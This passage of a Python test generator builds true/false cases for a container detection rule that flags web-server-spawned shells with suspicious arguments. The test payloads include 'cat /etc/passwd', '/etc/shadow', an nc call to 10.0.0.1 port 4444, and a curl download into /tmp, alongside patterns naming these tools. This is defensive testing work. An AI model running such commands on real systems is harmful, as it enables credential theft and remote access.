T("cat-multi", "event.category ['network','process'] contains 'process'.", ev(cat=("network", "process")))
F("cat-Process", "Category matching is exact and case-sensitive; 'Process' is not 'process'.", ev(cat=("Process",)))
F("cat-empty", "An empty event.category array has no value.", ev(cat=()))
T("cat-type-string", "event.type as the string 'start' equals 'start'.", ev(etype="start"))
T("cat-type-array", "event.type ['start'] contains 'start'.", ev(etype=("start",)))
T("cat-type-multi", "event.type ['info','start']: any element equal to 'start' satisfies `==`.", ev(etype=("info", "start")))
F("cat-type-end", "event.type ['end'] is not 'start'.", ev(etype=("end",)))
F("cat-type-Start", "`==` is case-sensitive; 'Start' is not 'start'.", ev(etype=("Start",)))
F("cat-type-missing", "event.type missing: `==` is false.", ev(etype=MISSING))
F("cat-action-fork", "event.action 'fork' is not 'exec'.", ev(action="fork"))
F("cat-action-end", "event.action 'end' is not 'exec'.", ev(action="end", etype=("end",)))
F("cat-action-EXEC", "`==` is case-sensitive; 'EXEC' is not 'exec'.", ev(action="EXEC"))
F("cat-action-space", "`==` is exact; 'exec ' has a trailing space.", ev(action="exec "))
F("cat-action-missing", "event.action missing: `==` is false.", ev(action=MISSING))
T("cat-kind-alert", "event.kind is not referenced by the rule.", ev(kind="alert"))
T("cat-kind-missing", "event.kind is not referenced by the rule.", ev(kind=MISSING))

# ---------------------------------------------------------------------------
# case: like vs like~ and ASCII-only folding at the top level
# ---------------------------------------------------------------------------
for tag, payload, why in [
    ("CAT-PASSWD", "CAT /ETC/PASSWD", "the argument patterns use case-sensitive `like`; '/ETC/PASSWD' does not match \"*/etc/passwd*\""),
    ("ECHO", "ECHO pwned", "\"*echo *\" is case-sensitive"),
    ("Echo", "Echo pwned", "\"*echo *\" is case-sensitive; 'Echo ' is not 'echo '"),
    ("NOHUP", "NOHUP ./worker", "\"*nohup*\" is case-sensitive"),
    ("etc-PASSWD", "cat /etc/PASSWD", "\"*/etc/passwd*\" is case-sensitive"),
    ("SHADOW", "cat /ETC/SHADOW", "\"*/etc/shadow*\" is case-sensitive"),
    ("NOHUP-cgi", "NOHUP php /home/bob/public_html/lockindex.php index.php >/dev/null 2>&1 &", "\"*nohup*\" is case-sensitive and nothing else in the list matches this value"),
    ("TMP", "ls /TMP/x ", "\"* /tmp/* \" is case-sensitive"),
]:
    F("case-%s" % tag, "Argument block fails: %s." % why, ev(payload, parent="starman"))
T("case-lower-ok", "Control for the case group: the lower-case payload matches \"*/etc/passwd*\".", ev("cat /etc/passwd", parent="starman"))

# ---------------------------------------------------------------------------
# multi: multi-element args
# ---------------------------------------------------------------------------
for ok, tag, a, why in [
    (False, "echo-split", ["sh", "-c", "echo", "hi"], "'echo' and 'hi' are separate elements; \"*echo *\" needs 'echo ' inside one element"),
    (True, "passwd-own-elem", ["bash", "-c", "cat", "/etc/passwd"], "the element '/etc/passwd' alone matches \"*/etc/passwd*\""),
    (False, "base64-split", ["sh", "-c", "base64", "-d", "x"], "'base64 -d' would span elements; no single element matches"),
    (False, "nc-split", ["sh", "-c", "nc", "10.0.0.1", "4444"], "\"* nc *\" needs spaces around 'nc' within one element"),
    (True, "dollar0-echo", ["sh", "-c", "id", "echo x"], "the $0 element 'echo x' matches \"*echo *\"; any element counts"),
    (False, "pipe-split", ["sh", "-c", "cat x |"], "\"*|*sh\" needs the element itself to end with 'sh'; 'cat x |' does not, and argv[0] 'sh' has no '|'"),
    (False, "pipe-split2", ["bash", "-c", "cat x |", "bash"], "'|' and 'bash' are in different elements"),
    (False, "chmod-split", ["sh", "-c", "chmod", "+x", "/tmp/a"], "'chmod +x ' spans elements and '/tmp/a' has no leading space"),
    (True, "many-elems", ["sh", "-c", "id"] + ["arg%d" % i for i in range(1000)] + ["echo last"], "the 1004th element 'echo last' matches \"*echo *\""),
    (False, "many-elems-miss", ["sh", "-c", "id"] + ["arg%d" % i for i in range(1000)], "none of the 1003 elements matches any pattern"),
]:
    (T if ok else F)("multi-%s" % tag, "Multi-valued args: %s." % why, ev(args=a, name=a[0], parent="lswsctrl"))

# ---------------------------------------------------------------------------
# long: 4 KiB and 64 KiB arguments
# ---------------------------------------------------------------------------
for size, label in [(4096, "4k"), (65536, "64k")]:
    fill = "A" * size
    half = "A" * (size // 2)
    T("long-%s-start" % label, "A %s argument starting with 'echo ' matches \"*echo *\" (trailing `*` spans the rest)." % label, ev("echo " + fill, parent="flask"))
    T("long-%s-middle" % label, "'/etc/shadow' in the middle of a %s argument matches \"*/etc/shadow*\"." % label, ev(half + "/etc/shadow" + half, parent="flask"))
    T("long-%s-end" % label, "A %s argument ending in ' /tmp/x ' matches \"* /tmp/* \" (ends with a space)." % label, ev(fill + " /tmp/x ", parent="flask"))
    F("long-%s-none" % label, "A %s argument of only 'A's matches no pattern." % label, ev(fill, parent="flask"))
    F("long-%s-tmp-nospace" % label, "A %s argument ending in ' /tmp/x' (no trailing space) fails \"* /tmp/* \"; nothing else matches." % label, ev(fill + " /tmp/x", parent="flask"))
    T("long-%s-curl-ip" % label, "'curl -o ' at the start and an IP at the end of a %s argument: \"*curl *\", \" -o \" and the IP regex all match." % label,
      ev("curl -o out " + fill + " 10.0.0.1", parent="flask"))
    F("long-%s-curl-3groups" % label, "A %s curl -o argument ending in '.1.2.3' has only three dotted digit groups, so the IP regex fails." % label,
      ev("curl -o out " + fill + ".1.2.3", parent="flask"))
    T("long-%s-parent-node" % label, "A %s node parent arg with '/srv/' in the middle matches like~ \"*/srv/*\"." % label,
      ev(parent="node", pargs=["node", half + "/srv/" + half]))

# ---------------------------------------------------------------------------
# nl: newlines inside arguments
# ---------------------------------------------------------------------------
for ok, tag, payload, why in [
    (True, "shebang", "id\n#!/bin/sh", "`*` spans the newline before '#!'"),
    (False, "echo-newline", "echo\nhi", "\"*echo *\" needs a space after 'echo', and a newline is not a space"),
    (False, "echo-tab", "echo\thi", "\"*echo *\" needs a space; a tab is not a space"),
    (False, "echo-crlf", "echo\r\nhi", "'echo' is followed by CR, not a space"),
    (True, "pipe-newline", "cat x|\nsh", "\"*|*sh\": the middle `*` spans the newline and the element ends with 'sh'"),
    (True, "tmp-after-newline", "id\nls /tmp/x ", "\"* /tmp/* \": the leading `*` spans 'id\\n' and the element ends with a space"),
    (False, "tmp-then-newline", "ls /tmp/x \n", "\"* /tmp/* \" needs the LAST character to be a space; it is a newline"),
    (True, "nohup-line2", "\nnohup x", "\"*nohup*\": the leading `*` spans the newline"),
    (True, "stty-newline", "stty raw\n-echo", "\"*stty*raw*-echo*\": `*` spans the newline between 'raw' and '-echo'"),
    (True, "multi-line-script", "set -e\ncd /srv\ncurl http://example.com/x -o /tmp/x\n", "\"*curl *\", \"*http://*\" and \"* /tmp/*\" each match within the multi-line element"),
]:
    (T if ok else F)("nl-%s" % tag, "Newlines: %s." % why, ev(payload, parent="waitress-serve"))
T("nl-parent-node", "like~ on a node parent arg: `*` spans the newline before '/srv/'.", ev(parent="node", pargs=["node", "x\n/srv/app"]))

# ---------------------------------------------------------------------------
# shape: dotted keys, mixes, arrays of objects
# ---------------------------------------------------------------------------
T("shape-dotted", "Fully dotted keys are the same fields as nested objects; the event matches like pin-nginx.", flatten(ev()))
F("shape-dotted-interactive", "Fully dotted; process.parent.interactive true fails `== false`.", flatten(ev(pint=True)))
F("shape-dotted-nocat", "Fully dotted without event.category: `process where` fails.", flatten(ev(cat=MISSING)))
F("shape-dotted-nocid", "Fully dotted without container.id: `like \"?*\"` fails.", flatten(ev(cid=MISSING)))
F("shape-dotted-miss-payload", "Fully dotted; payload 'id' matches no argument pattern.", flatten(ev("id")))

d = ev()
p = d["process"].pop("parent")
d["process"]["parent.name"] = p["name"]
d["process"]["parent.interactive"] = p["interactive"]
d["process"]["parent.args"] = p["args"]
T("shape-mixed-inner-dotted", "Dotted keys inside the nested 'process' object ('parent.name', ...) address process.parent.*.", d)

d = ev()
p = d["process"].pop("parent")
d["process.parent"] = p
T("shape-mixed-dotted-object", "A dotted key 'process.parent' holding an object, beside a nested 'process' object, addresses process.parent.*.", d)

d = ev()
e = d.pop("event")
for k, v in e.items():
    d["event." + k] = v
T("shape-mixed-event-dotted", "event.* as dotted keys, the rest nested.", d)

d = ev()
del d["process"]["parent"]["name"]
d["process.parent.name"] = "nginx"
T("shape-mixed-parent-name", "The parent name comes from a top-level dotted key while the rest of process.parent is nested.", d)

d = ev()
del d["process"]["parent"]["interactive"]
d["process.parent.interactive"] = True
F("shape-mixed-interactive-true", "The dotted key 'process.parent.interactive': true is read; `== false` fails.", d)

d = ev()
d["container.id"] = ""
del d["container"]
F("shape-dotted-cid-empty", "Dotted 'container.id': \"\" does not fit \"?*\".", d)

d = ev()
d["container"] = [{"id": CID, "runtime": "containerd"}]
T("shape-array-of-objects", "Arrays of objects flatten: container: [{id: ...}] gives container.id a value that fits \"?*\".", d)

d = ev()
d["container"] = [{"runtime": "containerd"}]
F("shape-array-of-objects-noid", "Arrays of objects flatten, but no object carries an id, so container.id is missing.", d)

d = ev()
a = d["process"].pop("args")
d["process.args"] = a
T("shape-dotted-args", "process.args given as a dotted key beside a nested 'process' object.", d)

T("shape-minimal", "Only the fields the rule reads, nested; everything holds.", {
    "event": {"category": ["process"], "type": ["start"], "action": "exec"},
    "process": {"name": "sh", "args": ["sh", "-c", BASE],
                "parent": {"name": "nginx", "interactive": False}},
    "container": {"id": CID}})
F("shape-minimal-no-parent", "Minimal document without process.parent: parent.interactive and parent.name are missing.", {
    "event": {"category": ["process"], "type": ["start"], "action": "exec"},
    "process": {"name": "sh", "args": ["sh", "-c", BASE]},
    "container": {"id": CID}})
T("shape-minimal-dotted", "Only the fields the rule reads, all as dotted keys.", {
    "event.category": ["process"], "event.type": "start", "event.action": "exec",
    "process.name": "sh", "process.args": ["sh", "-c", BASE],
    "process.parent.name": "nginx", "process.parent.interactive": "false", "container.id": CID})


# ---------------------------------------------------------------------------
# adv: adversarial edges aimed at common implementation shortcuts
# ---------------------------------------------------------------------------
F("adv-in-no-wildcard-args", "`in` has no wildcard expansion: '-*' is not '-c', and no element is '-c'/'-cl'/'-lc'.",
  ev(args=["sh", "-*", BASE]))
F("adv-in-no-wildcard-parent", "`in` has no wildcard expansion: parent 'ngin*' is not 'nginx' and fits no parent `like` pattern.",
  ev(parent="ngin*"))
F("adv-eq-no-wildcard-java", "`==` has no wildcard expansion: 'jav?' is not 'java' (and '?' is literal in the value).",
  ev(parent="jav?", pargs=["jav?", "org.apache.catalina.startup.Bootstrap"]))
F("adv-eq-no-wildcard-type", "`==` has no wildcard expansion: event.type 'st*rt' is not 'start'.", ev(etype=("st*rt",)))
T("adv-literal-star-value", "A literal '*' in the VALUE is just a character: 'ls /tmp/* ' fits \"* /tmp/* \".", ev("ls /tmp/* "))
F("adv-literal-star-value-miss", "A literal '*' in the value does not act as a wildcard: 'ls /tmp*' lacks '/tmp/' and a trailing space.", ev("ls /tmp*"))
T("adv-null-in-args", "A null inside process.args is skipped (no value); the remaining elements still include '-c' and '/etc/passwd'.",
  ev(args=["sh", "-c", None, BASE]))
F("adv-cr-is-not-dash", "ASCII folding touches letters only: CR (0x0D) is not '-' (0x2D), so '\\r\\rport' does not fit like~ \"*--port*\" (a naive `byte|0x20` fold would wrongly match).",
  ev(parent="node", pargs=["node", "\r\rport"]))
F("adv-so-is-not-dot", "ASCII folding touches letters only: 0x0E is not '.', so 'app\\x0epy' does not fit like~ \"*app.py*\".",
  ev(parent="python3", pargs=["python3", "app\x0epy"]))
F("adv-nul-is-not-space", "0x00 is not a space: \"*echo *\" needs 'echo ' and the other patterns do not match 'echo\\x00hi'.", ev("echo\x00hi"))
F("adv-ip-with-newline", "[0-9] does not match a newline, so '10.0.\\n0.1' has no four contiguous dotted digit groups; no http + path either.",
  ev("curl -o out 10.0.\n0.1"))
F("adv-cgi-trailing-newline", "\"*.cgi\" must match the whole value; 'index.cgi\\n' ends with a newline.", ev(parent="index.cgi\n"))
T("adv-emoji-in-tmp", "Supplementary-plane characters are single code points matched by `*`: 'ls /tmp/\U0001f642 ' fits \"* /tmp/* \".", ev("ls /tmp/\U0001f642 "))
T("adv-regex-meta-value", "Regex metacharacters in the value are plain text for wildcard matching: 'cat /etc/passwd(.*)[' fits \"*/etc/passwd*\".", ev("cat /etc/passwd(.*)["))
F("adv-pipe-not-alternation", "'|' in \"*|*sh\" is literal; 'cat x sh' has no '|' (an unescaped regex translation '.*|.*sh' would match everything).", ev("cat x sh"))
F("adv-plus-literal", "'+' in \"*chmod +x *\" is literal; 'chmod  x ./run' (two spaces, no '+') does not match.", ev("chmod  x ./run"))
F("adv-control-apache2-id", "Control: parent apache2, payload 'id' matches nothing in the argument list, so the exclusions are irrelevant.",
  ev("id", parent="apache2"))


def main():
    with open(OUT, "w", encoding="utf-8") as f:
        for c in CASES:
            f.write(json.dumps(c, ensure_ascii=False, separators=(",", ":")) + "\n")
    groups = {}
    for c in CASES:
        g = c["id"].split("-")[0]
        t, n = groups.get(g, (0, 0))
        groups[g] = (t + c["expect"], n + (not c["expect"]))
    total = len(CASES)
    print("wrote %d cases to %s" % (total, OUT))
    for g, (t, n) in sorted(groups.items()):
        print("  %-6s true=%3d false=%3d" % (g, t, n))


if __name__ == "__main__":
    main()
